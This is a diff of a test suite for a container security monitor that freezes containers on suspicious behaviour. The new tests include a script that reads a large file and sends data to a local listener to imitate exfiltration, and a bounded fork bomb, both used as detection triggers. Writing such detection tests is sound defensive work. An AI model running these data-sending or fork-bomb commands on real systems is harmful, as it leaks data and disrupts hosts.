@@ -248,7 +248,7 @@ def mon(
 ) -> Iterator[Monitor]:
     home = tmp_path_factory.mktemp("monitor-home")
     prefix = f"{run_prefix}m"
-    (home / "monitor.toml").write_text(
+    (home / "config.toml").write_text(
         "[monitoring]\nidle_exit_sec = 60\nexfil_threshold_mb = 20\nspawn_rate_per_sec = 150\n"
     )
     env = {
@@ -503,17 +503,36 @@ def test_credential_scanning_is_alerted(mon: Monitor) -> None:
 
 
 # --------------------------------------------------------------------------- volumes, spawns
-def test_large_read_freezes(mon: Monitor) -> None:
+READ_THEN_SEND = """import socket, time
+data = open("/root/data.bin", "rb")
+total = 0
+while chunk := data.read(1 << 20):
+    total += len(chunk)
+s = socket.create_connection(("{host}", {port}))
+s.sendall(b"x" * (4 << 20))  # a digest of what was read: far less than the read, still out
+time.sleep(30)
+"""
+
+
+def test_large_read_then_send_freezes(mon: Monitor) -> None:
     name = mon.container()
-    mon.trigger(
-        name,
-        "python3 -c \"import time\nf = open('/dev/zero', 'rb')\n"
-        'for _ in range(120): f.read(1 << 20)\ntime.sleep(30)"',
-    )
-    record = mon.threat(name, {"fs.large-read"})
-    assert record["level"] == "high" and record["action"] == "paused"
-    assert record["evidence"]["filesystem"]["read_bytes_mb"] > 50
-    mon.assert_status(name, "Frozen")
+    sink = Listener(sink=True)
+    try:
+        # writing the file reads 96 MB of /dev/urandom: a device, not a file read, and
+        # nothing goes out, so this must not count (it froze containers before)
+        mon.sh(name, "dd if=/dev/urandom of=/root/data.bin bs=1M count=96 status=none")
+        script = READ_THEN_SEND.format(host=GATEWAY, port=sink.port)
+        mon.trigger(name, run_file("/tmp/digest.py", script, "python3"))
+        record = mon.threat(name, {"fs.large-read"})
+        assert record["level"] == "high" and record["action"] == "paused"
+        evidence = record["evidence"]["filesystem"]
+        assert evidence["read_bytes_mb"] > 50 and 1 <= evidence["sent_mb"] < 20, evidence
+        assert "digest.py" in evidence["reader"]
+        early = [t for t in mon.events.threats(name) if t["timestamp"] < record["timestamp"]]
+        assert not [t for t in early if t["level"] in ("high", "critical")], early
+        mon.assert_status(name, "Frozen")
+    finally:
+        sink.close()
 
 
 def test_exfiltration_by_volume_freezes(mon: Monitor) -> None:
@@ -535,9 +554,14 @@ def test_exfiltration_by_volume_freezes(mon: Monitor) -> None:
 
 def test_spawn_storm_freezes(mon: Monitor) -> None:
     name = mon.container()
-    mon.trigger(name, "for i in $(seq 600); do /bin/true; done; sleep 30")
+    # a sequential loop of short processes (what ./configure does) is not a storm ...
+    mon.sh(name, "for i in $(seq 400); do /bin/true; done")
+    assert not [t for t in mon.events.threats(name) if t["rule_id"] == "proc.spawn-storm"]
+    # ... processes that stay alive while more are forked are (a bounded fork bomb)
+    mon.trigger(name, "for i in $(seq 600); do sleep 60 & done; sleep 30")
     record = mon.threat(name, {"proc.spawn-storm"})
     assert record["level"] == "high" and record["action"] == "paused"
+    assert record["evidence"]["process_count"]["live"] >= 250
     mon.assert_status(name, "Frozen")
 
 
@@ -601,16 +625,65 @@ fi
 bash -c 'for i in $(seq 20); do echo $i > /dev/null; done'
 until (echo > /dev/tcp/localhost/1) 2>/dev/null; do break; done
 tar czf /tmp/proj.tgz -C /root proj
+# big local reads: nothing leaves the container, so at most an INFO record
+mkdir -p /root/big/node_modules/pkg
+for i in 1 2 3; do yes "line $i of a log file that compresses well" | head -c 40M \
+  > /root/big/node_modules/pkg/f$i.log; done
+cp -r /root/big/node_modules /root/nm-copy
+tar czf /tmp/logs.tgz -C /root big
+rg -c "line 2" /root/big > /dev/null
+dd if=/dev/zero bs=1M count=200 status=none | cat > /dev/null
+cat /root/big/node_modules/pkg/*.log | sha256sum > /dev/null
+# a download from an allowed host (the bridge address), then read back
+curl -fsS -o /root/artifact.bin http://{gw}:{http_port}/artifact.bin
+sha256sum /root/artifact.bin > /dev/null
+# test-suite look-alikes: a key pair made by a test, a .env template, npm test
+mkdir -p /tmp/k && ssh-keygen -q -t ed25519 -N '' -f /tmp/k/id_ed25519
+mkdir -p /root/app && cd /root/app
+printf 'API_KEY=changeme\nDB_URL=postgres://localhost/db\n' > .env.example
+cp .env.example .env.test && cat .env.example > /dev/null
+printf '{{"name":"app","version":"1.0.0","scripts":{{"test":"node test.js"}}}}\n' > package.json
+echo 'require("assert").strictEqual(1 + 1, 2); console.log("ok")' > test.js
+if command -v npm > /dev/null; then NO_UPDATE_NOTIFIER=1 npm test --silent --offline; fi
+cd /root
 echo done
 """
+
+
+@contextlib.contextmanager
+def http_server(folder: Path) -> Iterator[int]:
+    """A static file server on the bridge address (what an allowed registry looks like)."""
+    import functools
+    import http.server
+
+    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(folder))
+    handler.log_message = lambda *a: None  # type: ignore[attr-defined]
+    server = http.server.ThreadingHTTPServer((GATEWAY, 0), handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        yield server.server_address[1]
+    finally:
+        server.shutdown()
+        server.server_close()
 
 
 def test_developer_workload_raises_nothing_high(mon: Monitor, tmp_path: Path) -> None:
     name = mon.container()
     wheel = make_wheel(tmp_path)
     mon.incus.push_file(name, "/root/devpkg-1.0-py3-none-any.whl", wheel.read_bytes())
-    output = mon.sh(name, WORKLOAD, timeout=120)
+    served = tmp_path / "served"
+    served.mkdir()
+    (served / "artifact.bin").write_bytes(os.urandom(80 << 20))
+    with http_server(served) as port:
+        script = WORKLOAD.replace("{gw}", GATEWAY).replace("{http_port}", str(port))
+        output = mon.sh(name, script.replace("{{", "{").replace("}}", "}"), timeout=180)
     assert output.strip().endswith("done")
+    local = mon.events.wait(
+        lambda m: m.get("container") == name and m.get("rule_id") == "fs.large-read-local",
+        10,
+        "the INFO record of the local reads",
+    )
+    assert local["level"] == "info" and local["action"] == "logged"
     # an exec after the workload: once its event is in, everything before it was judged
     # The trailing sleep keeps the script's shell observable: these checks are about what the
     # rules recognise, not about winning a race against a 2 ms process (a documented limit).
